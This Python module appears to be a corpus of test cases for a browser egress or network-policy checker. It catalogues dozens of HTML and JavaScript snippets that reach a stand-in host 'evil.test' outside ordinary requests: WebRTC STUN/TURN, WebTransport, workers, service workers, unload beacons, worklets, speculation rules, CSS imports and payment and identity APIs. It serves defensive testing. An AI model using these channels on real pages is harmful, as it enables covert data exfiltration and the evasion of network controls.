"""More ways out of a page: what browsers have learnt beside requests, and where URLs hide.

The address in one that speaks UDP is a number as well: behind a proxy a name might fail for want of
a resolver, and prove nothing.
"""

from tests.support.corpus_site import EVIL_ADDRESS, Page
from tests.support.policy_corpus import Trick

_EVIL = "http://NAME.evil.test:PORT"
_SAFE = "https://NAME.evil.test:PORT"
_GIF = "data:image/gif;base64,R0lGODlhAQABAAAAACw="


def _script(name: str, code: str, **more: object) -> Trick:
    return Trick(name, f"<script>{code}</script>", **more)  # type: ignore[arg-type]


def _file(name: str, code: str, kind: str = "text/javascript") -> tuple[tuple[str, Page], ...]:
    return ((f"/{name}", Page(code, kind)),)


def _rules(name: str, action: str, url: str, **more: object) -> Trick:
    rule = f'{{"{action}":[{{"urls":["{url}"],"eagerness":"immediate"}}]}}'
    return Trick(name, f"<script type=speculationrules>{rule}</script>", **more)  # type: ignore[arg-type]


def _peer(name: str, servers: str) -> Trick:
    code = (
        f"const c = new RTCPeerConnection({{iceServers: [{{urls: [{servers}],"
        "username: 'u', credential: 'c'}]});"
        "c.createDataChannel('x'); c.createOffer().then(o => c.setLocalDescription(o))"
    )
    return _script(name, code)


# Two peers of one page, one of whom says it is at the denied address.
_CANDIDATE = f"""
const a = new RTCPeerConnection(), b = new RTCPeerConnection();
a.createDataChannel('x');
(async () => {{
  await a.setLocalDescription(await a.createOffer());
  await b.setRemoteDescription(a.localDescription);
  await b.setLocalDescription(await b.createAnswer());
  await a.setRemoteDescription(b.localDescription);
  await a.addIceCandidate({{
    candidate: 'candidate:1 1 udp 2122260223 {EVIL_ADDRESS} PORT typ host', sdpMid: '0'}});
}})()
"""
_TRANSPORT = "new WebTransport('https://HOST:PORT/t').ready.catch(() => 0)"

# Nothing of these is seen as a request over HTTP: a datagram, or a connection.
DATAGRAMS: tuple[Trick, ...] = (
    _peer("stun address", f"'stun:{EVIL_ADDRESS}:PORT'"),
    _peer("turn", f"'turn:{EVIL_ADDRESS}:PORT', 'turn:NAME.evil.test:PORT'"),
    _peer("turn tcp", f"'turn:{EVIL_ADDRESS}:PORT?transport=tcp'"),
    _script("candidate", _CANDIDATE),
    _script("web transport", _TRANSPORT.replace("HOST", "NAME.evil.test")),
    _script("web transport address", _TRANSPORT.replace("HOST", EVIL_ADDRESS)),
    _script(
        "worker web transport",
        "new Worker('/wwt.js')",
        extra=_file("wwt.js", _TRANSPORT.replace("HOST", EVIL_ADDRESS)),
    ),
    _script(
        "shared web transport",
        "new SharedWorker('/swt.js')",
        extra=_file("swt.js", _TRANSPORT.replace("HOST", EVIL_ADDRESS)),
    ),
    _rules("prefetch rules", "prefetch", f"{_SAFE}/rules"),
    _rules("prerender rules", "prerender", f"{_SAFE}/rules"),
)

# Tags and style sheets that name a file.
FILES: tuple[Trick, ...] = (
    Trick("module preload", f"<link rel=modulepreload href='{_EVIL}/m.js'>"),
    Trick("module", f"<script type=module>import '{_EVIL}/m.js'</script>"),
    _script("import", f"import('{_EVIL}/m.js')"),
    Trick("icon", f"<link rel=icon href='{_EVIL}/icon.png'>"),
    Trick("manifest", f"<link rel=manifest href='{_EVIL}/manifest.json'>"),
    Trick("video", f"<video src='{_EVIL}/v.mp4' preload=auto></video>"),
    Trick("poster", f"<video poster='{_EVIL}/poster.png'></video>"),
    Trick("stream", f"<video src='{_EVIL}/live.m3u8' preload=auto></video>"),
    Trick(
        "track",
        f"<video crossorigin><track default kind=captions src='{_EVIL}/t.vtt'></video>"
        "<script>document.querySelector('video').textTracks[0].mode = 'showing'</script>",
    ),
    Trick("svg image", f"<svg><image href='{_EVIL}/i.svg' width=9 height=9 /></svg>"),
    Trick("svg filter", f"<svg><filter><feImage href='{_EVIL}/f.svg' /></filter></svg>"),
    Trick("object", f"<object data='{_EVIL}/o'></object>"),
    Trick("embed", f"<embed src='{_EVIL}/e'>"),
    Trick("srcset", f"<img src='{_GIF}' srcset='{_EVIL}/s.png 1x'>"),
    Trick("background", f"<p style='background: image-set(url({_EVIL}/b.png) 1x)'>x"),
    Trick(
        "sheet",
        "<link rel=stylesheet href='/sheet.css'>",
        extra=_file("sheet.css", f"@import '{_EVIL}/sheet.css'", "text/css"),
    ),
    Trick(
        "link header",
        "x",
        headers=(("link", f"<{_EVIL}/h.css>; rel=preload; as=style, <{_EVIL}/h>; rel=prefetch"),),
    ),
    Trick(
        "form target",
        f"<iframe name=f></iframe><form target=f action='{_EVIL}/form'></form>"
        "<script>document.forms[0].submit()</script>",
    ),
)

# Scripts that ask, in places of their own.
SCRIPTS: tuple[Trick, ...] = (
    _script("xhr", f"const x = new XMLHttpRequest(); x.open('GET', '{_EVIL}/xhr'); x.send()"),
    _script(
        "unload beacon",
        f"onpagehide = () => navigator.sendBeacon('{_EVIL}/unload');"
        "setTimeout(() => location = '/plain')",
        leaves=True,
    ),
    _script(
        "unload fetch",
        f"onpagehide = () => fetch('{_EVIL}/u', "
        "{keepalive: true, mode: 'no-cors'}); setTimeout(() => location = '/plain')",
        leaves=True,
    ),
    _script("paint worklet", f"CSS.paintWorklet.addModule('{_EVIL}/paint.js')"),
    _script("audio worklet", f"new AudioContext().audioWorklet.addModule('{_EVIL}/audio.js')"),
    _script(
        "worklet import",
        "CSS.paintWorklet.addModule('/worklet.js')",
        extra=_file("worklet.js", f"import '{_EVIL}/paint.js'"),
    ),
    _script(
        "service import",
        "navigator.serviceWorker.register('/swi.js', {scope: '/swi/'})",
        extra=_file("swi.js", f"importScripts('{_EVIL}/import.js')"),
    ),
    _script(
        "service socket",
        "navigator.serviceWorker.register('/sws.js', {scope: '/sws/'})",
        extra=_file("sws.js", "new WebSocket('ws://NAME.evil.test:PORT/sws')"),
    ),
    _script(
        "shared import",
        "new SharedWorker('/shi.js')",
        extra=_file("shi.js", f"importScripts('{_EVIL}/import.js')"),
    ),
    _script(
        "nested worker",
        "new Worker('/nest.js')",
        extra=(
            *_file("nest.js", "new Worker('/nested.js')"),
            *_file("nested.js", f"fetch('{_EVIL}/nested')"),
        ),
    ),
    _script(
        "blob worker",
        "new Worker(URL.createObjectURL(new Blob([\"fetch('" + _EVIL + "/blob')\"])))",
    ),
    _script(
        "socket stream",
        "self.WebSocketStream && new WebSocketStream("
        "'ws://NAME.evil.test:PORT/s').opened.catch(() => 0)",
    ),
    _script("cache", f"caches.open('c').then(c => c.add('{_EVIL}/cache'))"),
    _script(
        "redirected fetch",
        "fetch('/redirected-fetch-to')",
        extra=(("/redirected-fetch-to", Page(status=302, headers=(("location", f"{_EVIL}/r"),))),),
    ),
)

# What Chrome asks for itself on a page's behalf; over https: alone, so only a connection shows.
ERRANDS: tuple[Trick, ...] = (
    _script(
        "payment",
        f"new PaymentRequest([{{supportedMethods: '{_SAFE}/pay'}}], "
        "{total: {label: 'x', amount: {currency: 'USD', value: '1'}}}).canMakePayment()",
    ),
    _script(
        "identity",
        f"navigator.credentials.get({{identity: {{mode: 'passive', providers: "
        f"[{{configURL: '{_SAFE}/fedcm.json', clientId: '1'}}]}}}}).catch(() => 0)",
    ),
)

WIDE = (*DATAGRAMS, *FILES, *SCRIPTS, *ERRANDS)
SILENT = frozenset(trick.name for trick in (*DATAGRAMS, *ERRANDS))

# Held where the browser is ours alone, and nowhere else; status says so there.
UNHELD = frozenset(
    trick.name for trick in DATAGRAMS if "transport" in trick.name or trick.name == "turn tcp"
) | {trick.name for trick in ERRANDS}
